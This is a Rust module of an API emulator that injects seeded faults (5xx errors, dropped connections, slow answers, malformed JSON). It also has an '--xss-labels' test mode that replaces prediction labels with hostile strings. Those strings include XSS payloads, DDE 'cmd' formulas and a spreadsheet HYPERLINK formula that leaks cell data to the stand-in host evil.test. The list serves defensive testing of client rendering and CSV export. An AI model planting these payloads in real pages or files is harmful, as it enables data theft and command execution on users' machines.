//! Fault injection (`--fail-5xx`, `--drop`, `--slow`, `--bad-json`) and the
//! security mode `--xss-labels`: what can go wrong with an
//! answer the limiter let through, from a seeded sequence so that a run can
//! be replayed.
//!
//! Faults hit only answers that would have been a 200: a 401 or 400 stays
//! what it is, and a 429 never reaches the draw (it is answered before).
//! Each such request takes exactly one step of the sequence (one draw picks
//! the fault, a second its variant: which 5xx, which broken JSON), in the
//! order requests reach the draw. The faults are mutually exclusive, so
//! their probabilities add up to at most 1. With one client sending one
//! request at a time, the same seed and flags give the same faults in the
//! same order on every run.

use crate::drop::DropConnection;
use crate::error::error;
use crate::predict::Draws;
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::Json;
use serde_json::{json, Value};
use std::sync::Mutex;
use std::time::Duration;

/// The labels `--xss-labels` puts in place of the real ones, in this order
/// (the first distinct label of an answer gets the first string, and so on,
/// cycling). A page that renders labels as text shows them verbatim. Some
/// are spreadsheet formulas (starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return), which a CSV export must neutralise; the first one is,
/// so every answer's top label is.
pub const XSS_LABELS: &[&str] = &[
    "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"click\")",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "+1+cmd|' /C calc'!A0",
    "\"><svg onload=alert(1)>",
    "-2+3+cmd|' /C calc'!A0",
    "javascript:alert(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "' onmouseover='alert(1)' x='",
    "\t=1+1",
    "</td></tr></table><iframe src=javascript:alert(1)>",
    "\r=1+1",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}",
];

/// The statuses `--fail-5xx` answers with, equally likely.
pub const SERVER_ERRORS: [StatusCode; 3] = [
    StatusCode::INTERNAL_SERVER_ERROR,
    StatusCode::BAD_GATEWAY,
    StatusCode::SERVICE_UNAVAILABLE,
];

/// The page a `--bad-json` "not JSON" answer carries (as a captive portal or
/// a maintenance page of a proxy would, with a 200).
pub const NOT_JSON_BODY: &str = "<!doctype html><html><head><title>Maintenance</title></head>\
<body><h1>We'll be back soon</h1><p>The service is down for maintenance.</p></body></html>\n";

/// One injected fault.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Fault {
    /// `--fail-5xx`: this status (500, 502 or 503) with the API's JSON error body.
    ServerError(StatusCode),
    /// `--drop`: no answer at all; HTTP/1.1 closes the connection, HTTP/2
    /// resets the stream (the other streams of the connection live on).
    Drop,
    /// `--slow`: the real answer, but after `--slow-ms` instead of the latency.
    Slow,
    /// `--bad-json`: a 200 whose body is not the contract's JSON.
    BadJson(BadJson),
}

/// The ways a `--bad-json` answer is broken, equally likely.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum BadJson {
    /// The real answer cut in the middle (`Content-Type: application/json`).
    Truncated,
    /// An HTML page ([`NOT_JSON_BODY`], `Content-Type: text/html`).
    NotJson,
    /// Valid JSON without `response.solutions`:
    /// `{"error":"false","response":{"status":"queued","job_id":..},..}`.
    WrongShape,
}

impl Fault {
    /// The access log's name of the fault: `5xx`, `drop`, `slow` or `bad-json`.
    pub fn name(self) -> &'static str {
        match self {
            Fault::ServerError(_) => "5xx",
            Fault::Drop => "drop",
            Fault::Slow => "slow",
            Fault::BadJson(_) => "bad-json",
        }
    }
}

/// The fault flags.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct FaultConfig {
    /// Probability of [`Fault::ServerError`].
    pub fail_5xx: f64,
    /// Probability of [`Fault::Drop`].
    pub drop: f64,
    /// Probability of [`Fault::Slow`].
    pub slow: f64,
    /// Probability of [`Fault::BadJson`].
    pub bad_json: f64,
    /// How long a slow answer takes.
    pub slow_after: Duration,
    /// Seed of the fault sequence.
    pub seed: u64,
    /// Replace every prediction label by one of [`XSS_LABELS`].
    pub xss_labels: bool,
}

impl FaultConfig {
    /// The probabilities with their flags, in the order the draw tests them.
    fn probabilities(&self) -> [(&'static str, f64); 4] {
        [
            ("--fail-5xx", self.fail_5xx),
            ("--drop", self.drop),
            ("--slow", self.slow),
            ("--bad-json", self.bad_json),
        ]
    }

    /// Each probability in 0..=1, and their sum at most 1 (one fault per request at most).
    pub fn validate(&self) -> anyhow::Result<()> {
        for (flag, p) in self.probabilities() {
            anyhow::ensure!(
                (0.0..=1.0).contains(&p),
                "{flag} must be a probability between 0 and 1, got {p}"
            );
        }
        let sum: f64 = self.probabilities().iter().map(|(_, p)| p).sum();
        // Shown rounded: 0.1 + 0.2 is not to be read as 0.30000000000000004.
        let shown = (sum * 1e6).round() / 1e6;
        anyhow::ensure!(
            sum <= 1.0 + 1e-9,
            "--fail-5xx, --drop, --slow and --bad-json add up to {shown}, but a request gets \
             at most one fault: together they must be at most 1"
        );
        Ok(())
    }

    /// Whether any fault has a chance.
    pub fn any(&self) -> bool {
        self.probabilities().iter().any(|(_, p)| *p > 0.0)
    }

    /// One line for the startup banner, or `None` when nothing is injected.
    pub fn banner(&self) -> Option<String> {
        let mut parts: Vec<String> = self
            .probabilities()
            .iter()
            .filter(|(_, p)| *p > 0.0)
            .map(|(flag, p)| match *flag {
                "--slow" => format!("{flag} {p} ({} ms)", self.slow_after.as_millis()),
                _ => format!("{flag} {p}"),
            })
            .collect();
        if !parts.is_empty() {
            parts.push(format!("--fault-seed {}", self.seed));
        }
        if self.xss_labels {
            parts.push("--xss-labels".to_string());
        }
        (!parts.is_empty()).then(|| format!("pacer-emulator faults: {}", parts.join(", ")))
    }
}

/// The running fault sequence.
pub struct Faults {
    config: FaultConfig,
    draws: Mutex<Draws>,
}

impl Faults {
    /// The sequence of `config.seed`, from its start.
    pub fn new(config: FaultConfig) -> Faults {
        Faults {
            draws: Mutex::new(Draws::from_seed(config.seed)),
            config,
        }
    }

    /// The flags.
    pub fn config(&self) -> &FaultConfig {
        &self.config
    }

    /// The next step of the sequence: the fault of a request that would be
    /// answered 200, if any. Takes no step when no fault is enabled.
    pub fn draw(&self) -> Option<Fault> {
        if !self.config.any() {
            return None;
        }
        let (u, variant) = {
            let mut d = self.draws.lock().unwrap_or_else(|e| e.into_inner());
            (d.unit(), d.below(3))
        };
        let c = &self.config;
        let faults = [
            (c.fail_5xx, Fault::ServerError(SERVER_ERRORS[variant])),
            (c.drop, Fault::Drop),
            (c.slow, Fault::Slow),
            (
                c.bad_json,
                Fault::BadJson(
                    [BadJson::Truncated, BadJson::NotJson, BadJson::WrongShape][variant],
                ),
            ),
        ];
        let mut edge = 0.0;
        for (p, fault) in faults {
            edge += p;
            if u < edge {
                return Some(fault);
            }
        }
        None
    }
}

/// The answer of a [`Fault`] to a request whose real answer is `good` (the
/// contract's success JSON).
pub fn answer(fault: Fault, good: Value) -> Response {
    match fault {
        Fault::Slow => Json(good).into_response(),
        Fault::ServerError(status) => server_error(status),
        Fault::BadJson(kind) => bad_json(kind, &good),
        Fault::Drop => {
            // Never sent: `drop::DropAware` drops it with the connection.
            let mut res = StatusCode::INTERNAL_SERVER_ERROR.into_response();
            res.extensions_mut().insert(DropConnection);
            res
        }
    }
}

/// A 5xx with the API's JSON error envelope.
fn server_error(status: StatusCode) -> Response {
    let (id, message) = match status {
        StatusCode::BAD_GATEWAY => (
            "bad_gateway",
            "Bad gateway: the model server did not answer",
        ),
        StatusCode::SERVICE_UNAVAILABLE => (
            "service_unavailable",
            "The service is temporarily unavailable, try again later",
        ),
        _ => ("internal_error", "Internal server error"),
    };
    error(status, id, message)
}

/// A 200 whose body is broken in the `kind` way.
fn bad_json(kind: BadJson, good: &Value) -> Response {
    match kind {
        BadJson::Truncated => {
            let text = good.to_string();
            let mut cut = text.len() / 2;
            while !text.is_char_boundary(cut) {
                cut -= 1;
            }
            (
                [(header::CONTENT_TYPE, "application/json")],
                text[..cut].to_string(),
            )
                .into_response()
        }
        BadJson::NotJson => (
            [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
            NOT_JSON_BODY,
        )
            .into_response(),
        BadJson::WrongShape => Json(json!({
            "error": "false",
            "response": {"status": "queued", "job_id": good["correlation_id"]},
            "time": good["time"],
            "correlation_id": good["correlation_id"],
            "version": "2",
        }))
        .into_response(),
    }
}

/// Replaces every `label` string under `solutions` by one of
/// [`XSS_LABELS`]: the n-th distinct label gets the n-th string (cycling),
/// so a top prediction still equals the first of its predictions.
pub fn hostile_labels(solutions: &mut Value) {
    fn walk(v: &mut Value, seen: &mut Vec<String>) {
        match v {
            Value::Object(map) => {
                for (key, child) in map.iter_mut() {
                    match child {
                        Value::String(label) if key == "label" => {
                            let i = seen.iter().position(|s| s == label).unwrap_or_else(|| {
                                seen.push(label.clone());
                                seen.len() - 1
                            });
                            *label = XSS_LABELS[i % XSS_LABELS.len()].to_string();
                        }
                        _ => walk(child, seen),
                    }
                }
            }
            Value::Array(items) => items.iter_mut().for_each(|item| walk(item, seen)),
            _ => {}
        }
    }
    walk(solutions, &mut Vec::new());
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(fail_5xx: f64, drop: f64, slow: f64, bad_json: f64) -> FaultConfig {
        FaultConfig {
            fail_5xx,
            drop,
            slow,
            bad_json,
            slow_after: Duration::from_secs(30),
            seed: 7,
            xss_labels: false,
        }
    }

    #[test]
    fn validation_rejects_out_of_range_and_sums_over_one() {
        assert!(config(0.0, 0.0, 0.0, 0.0).validate().is_ok());
        assert!(config(1.0, 0.0, 0.0, 0.0).validate().is_ok());
        assert!(
            config(0.1, 0.2, 0.3, 0.4).validate().is_ok(),
            "sums to 1 in floats"
        );
        for bad in [-0.1, 1.5, f64::NAN, f64::INFINITY] {
            let e = config(0.0, bad, 0.0, 0.0).validate().unwrap_err();
            assert!(
                e.to_string().contains("--drop must be a probability"),
                "{e}"
            );
        }
        let e = config(0.5, 0.0, 0.3, 0.3).validate().unwrap_err();
        assert!(e.to_string().contains("at most 1"), "{e}");
    }

    #[test]
    fn draws_are_seeded_exclusive_and_skip_when_off() {
        let seq = |c: FaultConfig, n: usize| {
            let f = Faults::new(c);
            (0..n).map(|_| f.draw()).collect::<Vec<_>>()
        };
        let mix = config(0.25, 0.25, 0.25, 0.25);
        let a = seq(mix, 200);
        assert_eq!(a, seq(mix, 200), "same seed, same sequence");
        assert!(
            a.iter().all(Option::is_some),
            "summing to 1, every request faults"
        );
        assert_ne!(a, seq(FaultConfig { seed: 8, ..mix }, 200));
        assert!(seq(config(0.0, 0.0, 0.0, 0.0), 100)
            .iter()
            .all(Option::is_none));
        let all_5xx = seq(config(1.0, 0.0, 0.0, 0.0), 300);
        for status in SERVER_ERRORS {
            let n = all_5xx
                .iter()
                .filter(|f| **f == Some(Fault::ServerError(status)))
                .count();
            assert!((60..=140).contains(&n), "{status}: {n} of 300");
        }
    }

    #[test]
    fn banner_lists_what_is_on() {
        assert_eq!(config(0.0, 0.0, 0.0, 0.0).banner(), None);
        let c = FaultConfig {
            xss_labels: true,
            ..config(0.1, 0.0, 0.05, 0.0)
        };
        assert_eq!(
            c.banner().as_deref(),
            Some(
                "pacer-emulator faults: --fail-5xx 0.1, --slow 0.05 (30000 ms), \
                 --fault-seed 7, --xss-labels"
            )
        );
    }

    #[test]
    fn hostile_labels_cycle_by_distinct_label() {
        let mut v = json!({
            "m": {"top_prediction": {"label": "kitchen", "confidence": 0.9},
                  "predictions": [{"label": "kitchen"}, {"label": "pool"}]},
            "f": {"detections": [{"label": "fireplace", "details": [{"label": "brick"}]}]},
        });
        hostile_labels(&mut v);
        assert_eq!(v["m"]["top_prediction"]["label"], XSS_LABELS[0]);
        assert_eq!(v["m"]["predictions"][0]["label"], XSS_LABELS[0]);
        assert_eq!(v["m"]["predictions"][1]["label"], XSS_LABELS[1]);
        assert_eq!(v["f"]["detections"][0]["label"], XSS_LABELS[2]);
        assert_eq!(
            v["f"]["detections"][0]["details"][0]["label"],
            XSS_LABELS[3]
        );
        assert_eq!(v["m"]["top_prediction"]["confidence"], 0.9);
    }
}
